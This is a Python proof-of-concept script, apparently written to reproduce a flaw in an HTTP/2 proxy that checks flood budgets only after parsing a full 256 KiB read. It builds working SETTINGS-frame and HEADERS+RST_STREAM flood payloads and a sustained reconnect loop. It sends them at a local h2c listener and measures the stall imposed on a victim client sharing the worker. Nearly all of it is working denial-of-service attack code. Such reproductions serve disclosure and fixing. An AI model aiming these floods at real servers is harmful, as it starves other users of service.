"""HTTP/2 flood budgets are checked only after h2 has parsed and answered the whole read
(up to 256 KiB): a client that sends one 256 KiB write of empty SETTINGS frames (budget: 500)
gets ~29,000 SETTINGS ACKs back and holds the worker's loop for about a second; HEADERS +
RST_STREAM pairs (budget: 200 resets) the same.  Every other connection of the worker waits.
h2c listener, 1 worker; the victim is a keep-alive HTTP/1.1 client on the same worker."""
import socket, struct, time, psutil
from h import (PREFACE, Backend, Victim, frame, frames_in, ok_script, read_all, start_proxy)
from hpack import Encoder

be = Backend(ok_script)
p = start_proxy([{"path": "/", "to": f"http://127.0.0.1:{be.port}/"}],
                listen=lambda port: [{"address": f"127.0.0.1:{port}", "http2": "h2c"}])

N = 256 * 1024
settings = frame(4, 0, 0)
flood_settings = settings * (N // len(settings))
enc = Encoder()
pairs = bytearray()
sid = 1
while len(pairs) < N:
    hb = enc.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a")])
    pairs += frame(1, 5, sid, hb) + frame(3, 0, sid, struct.pack(">I", 8))
    sid += 2
flood_reset = bytes(pairs)


def attack(name, payload):
    s = socket.create_connection(("127.0.0.1", p.port))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    s.sendall(PREFACE + settings)
    time.sleep(0.2)                       # the proxy has taken the preface; the next read is the flood
    t0 = time.time()
    s.sendall(payload)
    got = read_all(s, 8)
    took = time.time() - t0
    s.close()
    fr = frames_in(got.replace(b"<EOF>", b"").replace(b"<RST>", b""))
    acks = sum(1 for t, f, _, _ in fr if t == 4 and f & 1)
    rsts = sum(1 for t, *_ in fr if t == 3)
    goaway = [(int.from_bytes(pl[:4], "big"), int.from_bytes(pl[4:8], "big")) for t, _, _, pl in fr if t == 7]
    print(f"{name}: sent {len(payload)} bytes; got back {len(got)} bytes: {acks} SETTINGS ACKs, "
          f"{rsts} RST_STREAM, GOAWAY(last, code)={goaway}, end={got[-5:]!r}, after {took:.2f} s")
    return t0


v = Victim(p.port)
time.sleep(1.0)
base, n = v.worst()
print(f"victim idle worst latency: {base:.1f} ms over {n} requests")
for name, payload in (("SETTINGS flood", flood_settings), ("HEADERS+RST_STREAM flood", flood_reset)):
    t0 = attack(name, payload)
    time.sleep(0.5)
    worst, n = v.worst(since=t0)
    print(f"  victim worst latency during it: {worst:.1f} ms ({n} requests)")
# Sustained: one client reconnecting in a loop, each connection one 64 KiB write of SETTINGS frames.
proc = psutil.Process(p.worker_pids()[0])
unit = PREFACE + settings + settings * (64 * 1024 // len(settings))
cpu0, t0, conns, acks = sum(proc.cpu_times()[:2]), time.time(), 0, 0
while time.time() - t0 < 3.0:
    s = socket.create_connection(("127.0.0.1", p.port))
    s.sendall(unit)
    got = read_all(s, 2)
    acks += sum(1 for t, f, _, _ in frames_in(got.replace(b"<EOF>", b"").replace(b"<RST>", b"")) if t == 4 and f & 1)
    s.close()
    conns += 1
took = time.time() - t0
cpu = sum(proc.cpu_times()[:2]) - cpu0
lat = sorted(l for t, l in v.lat if t >= t0)
print(f"sustained: {conns} connections x 64 KiB of SETTINGS in {took:.1f} s ({conns * len(unit) >> 10} KiB sent): "
      f"{acks} SETTINGS ACKs came back (budget: 500 a connection); worker CPU {cpu:.2f} s ({100 * cpu / took:.0f}%); "
      f"victim median {1000 * lat[len(lat) // 2]:.0f} ms, worst {1000 * lat[-1]:.0f} ms over {len(lat)} requests")
v.stop()
err = p.error_text()
print("error log:", [l for l in err.splitlines() if "HTTP/2" in l][:4])
print("backend connections opened:", len(be.conns))
p.stop()
